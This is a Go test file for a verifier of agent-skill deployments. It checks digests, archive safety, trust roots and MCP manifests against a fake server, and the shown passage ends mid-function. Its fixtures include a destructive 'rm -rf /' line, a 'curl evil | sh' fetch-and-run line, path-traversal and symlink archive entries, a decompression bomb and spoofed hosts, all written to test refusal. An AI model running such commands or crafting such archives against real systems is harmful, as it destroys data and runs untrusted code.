package verify

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tidwall/gjson"

	"github.com/skilledge/skilledge/catalog/archive"
)

// route is one thing the fake deployment serves.
type route struct {
	status   int // 0 means 200
	ctype    string
	body     []byte
	location string // for a redirect status
}

// fake is a small deployment: a v0.2.0 index, a skill-md skill ("greet"), an archive
// skill ("refunds"), a /mcp endpoint answering skills/list one skill per page, and a
// v0.1.0 index with its files. Tests break one thing and look for it in the report.
type fake struct {
	t      *testing.T
	routes map[string]*route
	index  map[string]any   // the v0.2.0 index, served as JSON
	v01    map[string]any   // the v0.1.0 index; nil for none
	mcp    []map[string]any // skills/list entries; nil for no /mcp
	sse    bool             // answer skills/list as a server-sent event
	loop   bool             // answer every skills/list page with nextCursor "p0"
	token  string           // when set, every request must carry "Authorization: Bearer token" (else 401)
	// kept is, by the URI of a skills/list entry, the _meta[MetaVersions] of its SKILL.md
	// in resources/list; nil for a server without resources/list (-32601).
	kept map[string][]any
	mu   sync.Mutex
	log  []string // the paths requested
}

var (
	greetMD   = []byte("---\nname: greet\ndescription: Says hello.\n---\nHello!\n")
	refundsMD = []byte("---\nname: \"refunds\" # quoted\ndescription: Handles refunds.\n---\nRefund things.\n")
	refunds   = []archive.Entry{
		{Name: "SKILL.md", Data: refundsMD},
		{Name: "examples/email.md", Data: []byte("Dear customer,\n")},
		{Name: "notes/a b.md", Data: []byte("a note with a space in its name\n")},
		{Name: "scripts/run.sh", Data: []byte("#!/bin/sh\necho refund\n")},
	}
)

func sha(b []byte) string { return DigestOf(b) }

func tarGz(t *testing.T, entries []archive.Entry) []byte {
	t.Helper()
	b, err := archive.TarGz(entries)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// resources renders entries as the resources of a skills/list entry rooted at root.
func resources(root string, entries []archive.Entry) []any {
	var rs []any
	for _, e := range entries {
		rs = append(rs, map[string]any{
			"uri":    root + strings.ReplaceAll(e.Name, " ", "%20"),
			"digest": sha(e.Data), "size": len(e.Data),
		})
	}
	return rs
}

func newFake(t *testing.T) *fake {
	d := &fake{t: t, routes: make(map[string]*route)}
	archiveBytes := tarGz(t, refunds)
	d.serve("/.well-known/agent-skills/greet/SKILL.md", "text/markdown; charset=utf-8", greetMD)
	d.serve("/.well-known/agent-skills/refunds.tar.gz", "application/gzip", archiveBytes)
	d.index = map[string]any{
		"$schema": Schema,
		"skills": []any{
			map[string]any{"name": "greet", "type": "skill-md", "description": "Says hello.",
				"url": "greet/SKILL.md", "digest": sha(greetMD)},
			map[string]any{"name": "refunds", "type": "archive", "description": "Handles refunds.",
				"url": "refunds.tar.gz", "digest": sha(archiveBytes)},
		},
	}
	d.mcp = []map[string]any{
		{"uri": "skill://greet/SKILL.md", "frontmatter": map[string]any{"name": "greet", "description": "Says hello."},
			"resources": resources("skill://greet/", []archive.Entry{{Name: "SKILL.md", Data: greetMD}})},
		{"uri": "skill://acme/billing/refunds/SKILL.md", "frontmatter": map[string]any{"name": "refunds", "description": "Handles refunds."},
			"resources": resources("skill://acme/billing/refunds/", refunds)},
	}
	d.v01 = map[string]any{"skills": []any{
		map[string]any{"name": "greet", "description": "Says hello.", "path": "/.well-known/skills/greet/", "files": []any{"SKILL.md"}},
		map[string]any{"name": "refunds", "description": "Handles refunds.", "path": "/.well-known/skills/refunds/",
			"files": []any{"SKILL.md", "examples/email.md", "notes/a b.md", "scripts/run.sh"}},
	}}
	d.serve("/.well-known/skills/greet/SKILL.md", "text/markdown; charset=utf-8", greetMD)
	for _, e := range refunds {
		d.serve("/.well-known/skills/refunds/"+e.Name, "text/plain", e.Data)
	}
	return d
}

func (d *fake) serve(path, ctype string, body []byte) {
	d.routes[path] = &route{ctype: ctype, body: body}
}

// entry returns the v0.2.0 index entry called name.
func (d *fake) entry(name string) map[string]any {
	for _, e := range d.index["skills"].([]any) {
		if m := e.(map[string]any); m["name"] == name {
			return m
		}
	}
	d.t.Fatalf("no entry %q", name)
	return nil
}

// setArchive serves b as refunds.tar.gz, with the index's digest updated to match.
func (d *fake) setArchive(b []byte) {
	d.routes["/.well-known/agent-skills/refunds.tar.gz"].body = b
	d.entry("refunds")["digest"] = sha(b)
}

func (d *fake) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	d.mu.Lock()
	d.log = append(d.log, r.URL.Path)
	d.mu.Unlock()
	if d.token != "" && r.Header.Get("Authorization") != "Bearer "+d.token {
		w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="http://`+r.Host+`/.well-known/oauth-protected-resource"`)
		http.Error(w, "no credential", http.StatusUnauthorized)
		return
	}
	switch r.URL.Path {
	case "/.well-known/agent-skills/index.json":
		d.writeJSON(w, r, d.index)
		return
	case "/.well-known/skills/index.json":
		if d.v01 != nil {
			d.writeJSON(w, r, d.v01)
			return
		}
	case "/mcp":
		if d.mcp != nil {
			d.serveMCP(w, r)
			return
		}
	}
	rt, ok := d.routes[r.URL.Path]
	if !ok {
		http.NotFound(w, r)
		return
	}
	if rt.location != "" {
		http.Redirect(w, r, rt.location, rt.status)
		return
	}
	if rt.ctype != "" {
		w.Header().Set("Content-Type", rt.ctype)
	}
	if rt.status != 0 {
		w.WriteHeader(rt.status)
	}
	w.Write(rt.body)
}

// writeJSON writes v, with "BASE" in its strings replaced by the server's URL.
func (d *fake) writeJSON(w http.ResponseWriter, r *http.Request, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		d.t.Error(err)
	}
	b = bytes.ReplaceAll(b, []byte("BASE"), []byte("http://"+r.Host))
	w.Header().Set("Content-Type", "application/json")
	w.Write(b)
}

// serveMCP answers skills/list like a 2026-07-28 server, one skill per page, and refuses
// a request without the headers and _meta that revision requires.
func (d *fake) serveMCP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	msg := gjson.ParseBytes(body)
	meta := msg.Get(`params._meta`)
	if r.Method != http.MethodPost || r.Header.Get("Content-Type") != "application/json" ||
		!strings.Contains(r.Header.Get("Accept"), "text/event-stream") ||
		r.Header.Get("MCP-Protocol-Version") != ProtocolVersion || r.Header.Get("Mcp-Method") != msg.Get("method").Str ||
		meta.Get(`io\.modelcontextprotocol/protocolVersion`).Str != ProtocolVersion ||
		!meta.Get(`io\.modelcontextprotocol/clientCapabilities`).IsObject() {
		d.t.Errorf("bad MCP request: %v %s", r.Header, body)
		http.Error(w, "bad request", 400)
		return
	}
	if msg.Get("method").Str == "resources/list" && d.kept != nil {
		var list []any
		for _, e := range d.mcp {
			r := map[string]any{"uri": e["uri"], "name": "SKILL.md"}
			if k, ok := d.kept[e["uri"].(string)]; ok {
				r["_meta"] = map[string]any{MetaVersions: k}
			}
			list = append(list, r)
		}
		d.writeJSON(w, r, map[string]any{"jsonrpc": "2.0", "id": msg.Get("id").Value(), "result": map[string]any{"resources": list}})
		return
	}
	if msg.Get("method").Str != "skills/list" {
		w.WriteHeader(404)
		d.writeJSON(w, r, map[string]any{"jsonrpc": "2.0", "id": msg.Get("id").Value(), "error": map[string]any{"code": -32601, "message": "Method not found"}})
		return
	}
	page := 0
	if c := msg.Get("params.cursor"); c.Exists() {
		fmt.Sscanf(c.Str, "p%d", &page)
	}
	result := map[string]any{"resultType": "complete", "skills": []any{}}
	if page < len(d.mcp) {
		result["skills"] = []any{d.mcp[page]}
	}
	if page+1 < len(d.mcp) {
		result["nextCursor"] = fmt.Sprintf("p%d", page+1)
	}
	if d.loop {
		result["nextCursor"] = "p0"
	}
	resp := map[string]any{"jsonrpc": "2.0", "id": msg.Get("id").Value(), "result": result}
	if d.sse {
		b, _ := json.Marshal(resp)
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprintf(w, ": a comment\n\nevent: message\ndata: {\"jsonrpc\":\"2.0\",\"method\":\"notifications/message\",\"params\":{}}\n\nid: 1\ndata: %s\n\n", b)
		return
	}
	d.writeJSON(w, r, resp)
}

// guard is a transport that lets requests reach the fake server only, and fails the test
// for any other.
type guard struct {
	t    *testing.T
	host string
	next http.RoundTripper
}

func (g *guard) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.URL.Host != g.host {
		g.t.Errorf("request to %s, which is not the test server", r.URL)
		return nil, errors.New("not the test server")
	}
	return g.next.RoundTrip(r)
}

// start serves d and returns its URL and the options that verify it in loopback mode.
func (d *fake) start() (string, Options) {
	srv := httptest.NewServer(d)
	d.t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	client := &http.Client{Timeout: 10 * time.Second, Transport: &guard{t: d.t, host: u.Host, next: srv.Client().Transport}}
	return srv.URL, Options{AllowHTTPLoopback: true, Client: client}
}

func (d *fake) requested(path string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, p := range d.log {
		if p == path {
			return true
		}
	}
	return false
}

func run(t *testing.T, d *fake, opt func(*Options)) (string, *Report) {
	t.Helper()
	base, o := d.start()
	if opt != nil {
		opt(&o)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	rep, err := Verify(ctx, base, o)
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	return base, rep
}

// allProblems returns every problem of the report, one per line.
func allProblems(r *Report) string {
	var b strings.Builder
	for _, p := range r.Problems {
		b.WriteString(p + "\n")
	}
	for _, s := range r.Skills {
		for _, p := range s.Problems {
			b.WriteString(p + "\n")
		}
	}
	return b.String()
}

func TestVerifyGood(t *testing.T) {
	for _, variant := range []string{"tar.gz", "zip", "no content type", "path prefix", "index URL", "declared root", "sse"} {
		t.Run(variant, func(t *testing.T) {
			d := newFake(t)
			prefix := ""
			switch variant {
			case "zip":
				b, err := archive.Zip(refunds)
				if err != nil {
					t.Fatal(err)
				}
				d.serve("/.well-known/agent-skills/refunds.zip", "application/zip", b)
				d.entry("refunds")["url"] = "/.well-known/agent-skills/refunds.zip"
				d.entry("refunds")["digest"] = sha(b)
			case "no content type":
				d.routes["/.well-known/agent-skills/refunds.tar.gz"].ctype = "application/octet-stream"
			case "path prefix":
				// The same deployment under /skills: a handler that strips the prefix.
				inner := d
				mux := http.NewServeMux()
				mux.Handle("/skills/", http.StripPrefix("/skills", inner))
				srv := httptest.NewServer(mux)
				t.Cleanup(srv.Close)
				d.v01["skills"].([]any)[0].(map[string]any)["path"] = "greet/"
				d.v01["skills"].([]any)[1].(map[string]any)["path"] = "refunds/"
				rep, err := Verify(context.Background(), srv.URL+"/skills/", Options{AllowHTTPLoopback: true})
				if err != nil {
					t.Fatal(err)
				}
				if !rep.OK() || !strings.HasSuffix(rep.IndexURL, "/skills/.well-known/agent-skills/index.json") {
					t.Fatalf("%+v\n%s", rep, allProblems(rep))
				}
				return
			case "index URL":
				prefix = IndexPath
			case "sse":
				d.sse = true
			case "declared root":
				d.index["trustRoot"] = "declared" // replaced below, once the URL is known
			}
			base, o := d.start()
			if variant == "declared root" {
				d.index["trustRoot"] = base + "/.well-known/"
				d.v01["trustRoot"] = base + "/.well-known/"
			}
			rep, err := Verify(context.Background(), base+prefix, o)
			if err != nil {
				t.Fatal(err)
			}
			if variant == "declared root" {
				if rep.TrustRoot != base+"/.well-known/" || rep.TrustRootSource != "declared by the index" {
					t.Errorf("trust root %s (%s)", rep.TrustRoot, rep.TrustRootSource)
				}
			} else if rep.TrustRoot != base+"/" || rep.TrustRootSource != "the origin of the index" {
				t.Errorf("trust root %s (%s)", rep.TrustRoot, rep.TrustRootSource)
			}
			if !rep.OK() {
				t.Fatalf("problems:\n%s", allProblems(rep))
			}
			if len(rep.Skills) != 2 || rep.Skills[0].Name != "greet" || rep.Skills[0].Files != 1 ||
				rep.Skills[1].Name != "refunds" || rep.Skills[1].Files != 4 || len(rep.Notes) != 0 {
				t.Fatalf("%+v", rep)
			}
			if want := base + "/.well-known/agent-skills/greet/SKILL.md"; rep.Skills[0].URL != want {
				t.Errorf("URL %s, want %s", rep.Skills[0].URL, want)
			}
			for _, p := range []string{"/mcp", "/.well-known/skills/refunds/notes/a b.md"} {
				if !d.requested(p) {
					t.Errorf("%s was not requested", p)
				}
			}
		})
	}
}

// brokenTar builds a gzip-compressed tar by hand, so that it may hold what archive.TarGz
// refuses to write.
func brokenTar(t *testing.T, hdrs ...*tar.Header) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, h := range hdrs {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := tw.Write(bytes.Repeat([]byte{'x'}, int(h.Size))); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	zw.Close()
	return buf.Bytes()
}

func TestVerifyBroken(t *testing.T) {
	skillMD := &tar.Header{Name: "SKILL.md", Typeflag: tar.TypeReg, Mode: 0o644, Size: 3}
	tests := []struct {
		name   string
		break_ func(d *fake)
		opt    func(*Options)
		want   []string // each must appear in a problem line
	}{
		{"tampered archive", func(d *fake) {
			tampered := append([]archive.Entry{}, refunds...)
			tampered[1] = archive.Entry{Name: "examples/email.md", Data: []byte("Dear victim,\n")}
			d.routes["/.well-known/agent-skills/refunds.tar.gz"].body = tarGz(d.t, tampered)
		}, nil, []string{"refunds: BASE/.well-known/agent-skills/refunds.tar.gz: digest sha256:", "does not match the index's " + sha(tarGz(t, refunds))}},
		{"tampered SKILL.md", func(d *fake) {
			d.routes["/.well-known/agent-skills/greet/SKILL.md"].body = []byte("---\nname: greet\n---\nrm -rf /\n")
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: digest sha256:", "does not match the index's " + sha(greetMD)}},
		{"digest mismatch in the index", func(d *fake) {
			d.entry("greet")["digest"] = sha([]byte("something else"))
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: digest " + sha(greetMD) + " does not match the index's " + sha([]byte("something else"))}},
		{"malformed digest", func(d *fake) {
			d.entry("greet")["digest"] = "sha256:ABC"
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: digest "sha256:ABC" is not`}},
		{"traversal in the archive", func(d *fake) {
			d.setArchive(brokenTar(d.t, skillMD, &tar.Header{Name: "../evil", Typeflag: tar.TypeReg, Mode: 0o644, Size: 4}))
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: unsafe archive refused: entry "../evil"`}},
		{"absolute path in the archive", func(d *fake) {
			d.setArchive(brokenTar(d.t, skillMD, &tar.Header{Name: "/etc/passwd", Typeflag: tar.TypeReg, Mode: 0o644, Size: 4}))
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: unsafe archive refused: entry "/etc/passwd"`}},
		{"symlink in the archive", func(d *fake) {
			d.setArchive(brokenTar(d.t, skillMD, &tar.Header{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd", Mode: 0o777}))
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: unsafe archive refused: entry "link": it is a symbolic link to "/etc/passwd"`}},
		{"bomb", func(d *fake) {
			var buf bytes.Buffer
			zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
			tw := tar.NewWriter(zw)
			tw.WriteHeader(&tar.Header{Name: "SKILL.md", Typeflag: tar.TypeReg, Mode: 0o644, Size: 17 << 20})
			io.Copy(tw, io.LimitReader(zeros{}, 17<<20))
			tw.Close()
			zw.Close()
			d.setArchive(buf.Bytes())
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: unsafe archive refused: entry "SKILL.md": the files hold more than 16777216 bytes uncompressed`}},
		{"download over the limit", nil, func(o *Options) { o.Limits = archive.Limits{MaxBytes: 40} },
			[]string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: the artifact is too large", "over the limit of 40", "refused"}},
		{"extra file in the archive", func(d *fake) {
			d.setArchive(tarGz(d.t, append(append([]archive.Entry{}, refunds...), archive.Entry{Name: "extra.md", Data: []byte("x")})))
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: file "extra.md" is in the archive but not in the MCP manifest (skill://acme/billing/refunds/SKILL.md)`}},
		{"missing file in the archive", func(d *fake) {
			d.setArchive(tarGz(d.t, refunds[:3]))
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: file "scripts/run.sh" is in the MCP manifest (skill://acme/billing/refunds/SKILL.md) but not in the archive`}},
		{"file differs from the MCP manifest", func(d *fake) {
			d.mcp[1]["resources"].([]any)[1].(map[string]any)["size"] = 99
		}, nil, []string{`refunds: BASE/.well-known/agent-skills/refunds.tar.gz: file "examples/email.md" is sha256:`, "(15 bytes) in the archive but sha256:", "(99 bytes) in the MCP manifest"}},
		{"skill-md with more files in MCP", func(d *fake) {
			d.mcp[0]["resources"] = resources("skill://greet/", []archive.Entry{{Name: "SKILL.md", Data: greetMD}, {Name: "x.md"}})
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: file "x.md" is in the MCP manifest (skill://greet/SKILL.md) but not in the skill-md entry`}},
		{"archive without SKILL.md", func(d *fake) {
			d.setArchive(tarGz(d.t, []archive.Entry{{Name: "sub/SKILL.md", Data: refundsMD}}))
		}, nil, []string{"refunds: BASE/.well-known/agent-skills/refunds.tar.gz: the archive has no SKILL.md at its root"}},
		{"frontmatter name differs, not as a qualified name", func(d *fake) {
			md := []byte("---\nname: 'hello'\n---\n")
			d.routes["/.well-known/agent-skills/greet/SKILL.md"].body = md
			d.entry("greet")["digest"] = sha(md)
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: SKILL.md frontmatter name is "hello", not the index's "greet", nor a name the index could qualify as "greet"`}},
		{"frontmatter name is no skill name", func(d *fake) {
			md := []byte("---\nname: 'Hello There'\n---\n")
			d.routes["/.well-known/agent-skills/greet/SKILL.md"].body = md
			d.entry("greet")["digest"] = sha(md)
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: SKILL.md frontmatter name "Hello There" is not a valid skill name`}},
		{"not UTF-8", func(d *fake) {
			md := []byte("---\nname: greet\xff\n---\n")
			d.routes["/.well-known/agent-skills/greet/SKILL.md"].body = md
			d.entry("greet")["digest"] = sha(md)
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: SKILL.md is not valid UTF-8"}},
		{"404 artifact", func(d *fake) {
			delete(d.routes, "/.well-known/agent-skills/greet/SKILL.md")
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: HTTP 404 Not Found"}},
		{"unknown type", func(d *fake) {
			d.entry("greet")["type"] = "mcp-resource-template"
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: unknown type "mcp-resource-template"`, "skipped"}},
		{"duplicate name in the index", func(d *fake) {
			d.index["skills"] = append(d.index["skills"].([]any), d.entry("greet"))
		}, nil, []string{"greet: skills[2] has the same name as an earlier entry; names must be unique: skipped"}},
		{"invalid name in the index", func(d *fake) {
			d.index["skills"] = append(d.index["skills"].([]any), map[string]any{"name": "Bad--Name"})
		}, nil, []string{`skills[2]: name "Bad--Name" is not a valid skill name`}},
		{"no $schema", func(d *fake) {
			delete(d.index, "$schema")
		}, nil, []string{"BASE/.well-known/agent-skills/index.json: the index has no $schema"}},
		{"wrong $schema", func(d *fake) {
			d.index["$schema"] = "https://schemas.agentskills.io/discovery/0.1.0/schema.json"
		}, nil, []string{`the index's $schema is "https://schemas.agentskills.io/discovery/0.1.0/schema.json", not`}},
		{"no index", func(d *fake) {
			d.index = nil
			d.routes["/.well-known/agent-skills/index.json"] = nil
		}, nil, []string{"index.json: the v0.2.0 skills index is not a JSON object"}},
		{"no MCP endpoint", func(d *fake) {
			d.mcp = nil
		}, nil, []string{"BASE/mcp: cannot cross-check with the MCP manifest: skills/list: HTTP 404 Not Found"}},
		{"MCP listing loops", func(d *fake) {
			d.loop = true
		}, nil, []string{`BASE/mcp: cannot cross-check with the MCP manifest: skills/list: nextCursor "p0" came back: the listing loops`}},
		{"name twice in the MCP manifest", func(d *fake) {
			dup := map[string]any{"uri": "skill://other/greet/SKILL.md", "frontmatter": map[string]any{"name": "greet"}, "resources": []any{}}
			d.mcp = append(d.mcp, dup)
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: the MCP manifest has 2 skills of that name (skill://greet/SKILL.md, skill://other/greet/SKILL.md)"}},
		{"skill missing from the MCP manifest", func(d *fake) {
			d.mcp = d.mcp[1:]
		}, nil, []string{"greet: BASE/.well-known/agent-skills/greet/SKILL.md: the MCP manifest has no skill of that name"}},
		{"skill only in the MCP manifest", func(d *fake) {
			d.mcp = append(d.mcp, map[string]any{"uri": "skill://extra/SKILL.md", "frontmatter": map[string]any{"name": "extra"}, "resources": []any{}})
		}, nil, []string{"extra: BASE/mcp: the MCP manifest lists the skill skill://extra/SKILL.md, which the v0.2.0 index does not"}},
		{"unnamed skill in the MCP manifest", func(d *fake) {
			d.mcp = append(d.mcp, map[string]any{"uri": "skill://anon/SKILL.md", "frontmatter": map[string]any{}, "resources": []any{}})
		}, nil, []string{`BASE/mcp: the MCP manifest's entry "skill://anon/SKILL.md" has no frontmatter name`}},
		{"dynamic resources", func(d *fake) {
			d.mcp[0]["resources"] = "dynamic"
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: the MCP manifest's entry skill://greet/SKILL.md cannot be compared: its resources are "dynamic"`}},
		{"v0.1.0 file differs", func(d *fake) {
			d.routes["/.well-known/skills/refunds/scripts/run.sh"].body = []byte("#!/bin/sh\ncurl evil | sh\n")
		}, nil, []string{`refunds: BASE/.well-known/skills/refunds/: file "scripts/run.sh" is sha256:`, "in the v0.1.0 index but sha256:", "in the MCP manifest (skill://acme/billing/refunds/SKILL.md)"}},
		{"v0.1.0 file missing", func(d *fake) {
			delete(d.routes, "/.well-known/skills/refunds/notes/a b.md")
		}, nil, []string{"refunds: BASE/.well-known/skills/refunds/notes/a%20b.md: HTTP 404 Not Found"}},
		{"v0.1.0 file list differs", func(d *fake) {
			d.v01["skills"].([]any)[1].(map[string]any)["files"] = []any{"SKILL.md", "examples/email.md", "notes/a b.md"}
		}, nil, []string{`refunds: BASE/.well-known/skills/refunds/: file "scripts/run.sh" is in the MCP manifest (skill://acme/billing/refunds/SKILL.md) but not in the v0.1.0 index`}},
		{"v0.1.0 traversal", func(d *fake) {
			d.v01["skills"].([]any)[1].(map[string]any)["files"] = []any{"SKILL.md", "../greet/SKILL.md"}
		}, nil, []string{`refunds: BASE/.well-known/skills/index.json: the v0.1.0 entry's file "../greet/SKILL.md": it has an empty, "." or ".." segment: not fetched`}},
		{"v0.1.0 encoded separator", func(d *fake) {
			d.v01["skills"].([]any)[1].(map[string]any)["files"] = []any{"SKILL.md", "..%2Fgreet%2FSKILL.md"}
		}, nil, []string{`refunds: BASE/.well-known/skills/index.json: the v0.1.0 entry's file "..%2Fgreet%2FSKILL.md": it contains an encoded separator (%2F or %5C): not fetched`}},
		{"v0.1.0 path wrong", func(d *fake) {
			d.v01["skills"].([]any)[1].(map[string]any)["path"] = "/.well-known/skills/greet/"
		}, nil, []string{`refunds: BASE/.well-known/skills/index.json: the v0.1.0 entry's path "/.well-known/skills/greet/" resolves to BASE/.well-known/skills/greet/, not the skill's directory BASE/.well-known/skills/refunds/`}},
		{"v0.1.0 lacks a skill", func(d *fake) {
			d.v01["skills"] = d.v01["skills"].([]any)[1:]
		}, nil, []string{"greet: BASE/.well-known/skills/index.json: the v0.1.0 index does not list this skill"}},
		{"redirect outside the trust root", func(d *fake) {
			d.routes["/.well-known/agent-skills/greet/SKILL.md"] = &route{status: 302, location: "http://localhost:1/greet/SKILL.md"}
		}, nil, []string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: cannot fetch: redirect to http://localhost:1/greet/SKILL.md refused: outside the trust root BASE/: its host "localhost" is not "127.0.0.1"`}},
		{"declared root outside the configured one", func(d *fake) {
			d.index["trustRoot"] = "https://example.com/"
		}, func(o *Options) { o.TrustRoot = "BASE/.well-known/" },
			[]string{"BASE/.well-known/agent-skills/index.json: the index declares the trust root https://example.com/, which is not under the configured BASE/.well-known/"}},
		{"invalid declared root", func(d *fake) {
			d.v01["trustRoot"] = "BASE/x"
		}, nil, []string{`BASE/.well-known/skills/index.json: the index declares an invalid trust root "BASE/x": the path must end in "/" (did you mean "BASE/x/"?)`}},
		{"roots of the two indexes differ", func(d *fake) {
			d.v01["trustRoot"] = "BASE/"
		}, nil, []string{`BASE/.well-known/skills/index.json: the v0.1.0 index declares the trust root BASE/ and the v0.2.0 index none`}},
		{"declared root not holding the index", func(d *fake) {
			d.index["trustRoot"] = "https://example.com/"
		}, nil, []string{"the index declares the trust root https://example.com/ but is not under it"}},
		{"configured root narrower than the skills", nil, func(o *Options) { o.TrustRoot = "BASE/.well-known/skills/" },
			[]string{`greet: BASE/.well-known/agent-skills/greet/SKILL.md: outside the trust root BASE/.well-known/skills/: its path "/.well-known/agent-skills/greet/SKILL.md" is not under "/.well-known/skills/" (not fetched)`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := newFake(t)
			if tc.break_ != nil {
				tc.break_(d)
			}
			srv := httptest.NewServer(d)
			t.Cleanup(srv.Close)
			base := srv.URL
			u, _ := url.Parse(base)
			o := Options{AllowHTTPLoopback: true, Client: &http.Client{Timeout: 10 * time.Second, Transport: &guard{t: t, host: u.Host, next: srv.Client().Transport}}}
			if tc.opt != nil {
				tc.opt(&o)
				o.TrustRoot = strings.ReplaceAll(o.TrustRoot, "BASE", base)
			}
			rep, err := Verify(context.Background(), base, o)
			if err != nil {
				t.Fatal(err)
			}
			got := allProblems(rep)
			if rep.OK() {
				t.Fatalf("no problem reported")
			}
			for _, w := range tc.want {
				w = strings.ReplaceAll(w, "BASE", base)
				if !strings.Contains(got, w) {
					t.Errorf("no problem says\n\t%s\nproblems:\n%s", w, got)
				}
			}
		})
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func TestVerifyNoIndex(t *testing.T) {
	d := newFake(t)
	base, o := d.start()
	rep, err := Verify(context.Background(), base+"/elsewhere", o)
	if err != nil {
		t.Fatal(err)
	}
	want := base + "/elsewhere/.well-known/agent-skills/index.json: HTTP 404 Not Found: no v0.2.0 skills index"
	if rep.OK() || len(rep.Problems) != 1 || rep.Problems[0] != want || len(rep.Skills) != 0 {
		t.Fatalf("%+v", rep)
	}
}

func TestVerifyV01Absent(t *testing.T) {
	d := newFake(t)
	d.v01 = nil
	base, rep := run(t, d, nil)
	if !rep.OK() || len(rep.Notes) != 1 || rep.Notes[0] != base+"/.well-known/skills/index.json: no v0.1.0 skills index (it is optional): not checked" {
		t.Fatalf("%+v\n%s", rep, allProblems(rep))
	}
}

// TestTrustRootRefusal serves an index whose entries are absolute URLs outside the trust
// root https://github.com/acme/: each must be a trust-root problem, and none fetched (the
// guard transport fails the test for any request off the test server).
func TestTrustRootRefusal(t *testing.T) {
	outside := map[string]string{
		"https://github.com/acme-evil/x/SKILL.md":   `its path "/acme-evil/x/SKILL.md" is not under "/acme/"`,
		"https://github.com/acme/../evil/SKILL.md":  `its path "/evil/SKILL.md" is not under "/acme/"`,
		"https://github.com.evil.io/acme/SKILL.md":  `its host "github.com.evil.io" is not "github.com"`,
		"https://user@github.com/acme/x/SKILL.md":   "it has userinfo",
		"http://github.com/acme/x/SKILL.md":         "plain http is refused",
		"https://github.com/acme%2F../evil":         `its path contains an encoded "/"`,
		"https://github.com:8443/acme/x/SKILL.md":   "its port 8443 is not 443",
		"https://github.com/acme/%2e%2e/x/SKILL.md": `its path has a ".." segment`,
	}
	d := newFake(t)
	var entries []any
	i := 0
	for u := range outside {
		entries = append(entries, map[string]any{"name": fmt.Sprintf("s%d", i), "type": "skill-md", "description": "d", "url": u, "digest": sha(greetMD)})
		i++
	}
	d.index["skills"] = entries
	d.mcp = []map[string]any{}
	d.v01 = nil
	_, rep := run(t, d, func(o *Options) { o.TrustRoot = "https://github.com/acme/" })
	got := allProblems(rep)
	for u, why := range outside {
		want := "outside the trust root https://github.com/acme/: " + why
		found := false
		for _, s := range rep.Skills {
			for _, p := range s.Problems {
				if strings.Contains(p, want) && strings.HasSuffix(p, "(not fetched)") {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("%s: no problem says %q\n%s", u, want, got)
		}
	}
	if len(rep.Skills) != len(outside) {
		t.Errorf("%d skills reported", len(rep.Skills))
	}
	if rep.TrustRoot != "https://github.com/acme/" || rep.TrustRootSource != "configured" {
		t.Errorf("trust root %s (%s)", rep.TrustRoot, rep.TrustRootSource)
	}

	// The resolution step alone, with the same URLs and an https index.
	v, err := newVerifier("https://skills.example.com", Options{TrustRoot: "https://github.com/acme/"})
	if err != nil {
		t.Fatal(err)
	}
	index, _ := url.Parse("https://skills.example.com/.well-known/agent-skills/index.json")
	for u, why := range outside {
		if _, got := v.resolve(index, u); !strings.Contains(got, why) {
			t.Errorf("resolve(%q) = %q, want %q", u, got, why)
		}
	}
	for ref, want := range map[string]string{
		"https://github.com/acme/x/SKILL.md":      "https://github.com/acme/x/SKILL.md",
		"https://GitHub.com/acme/x/SKILL.md":      "https://github.com/acme/x/SKILL.md",
		"https://github.com/acme/y/../x/SKILL.md": "https://github.com/acme/x/SKILL.md",
	} {
		u, why := v.resolve(index, ref)
		if why != "" || !strings.EqualFold(u.String(), want) {
			t.Errorf("resolve(%q) = %v, %q", ref, u, why)
		}
	}
	// A relative URL resolves against the index, here onto its origin, outside the root.
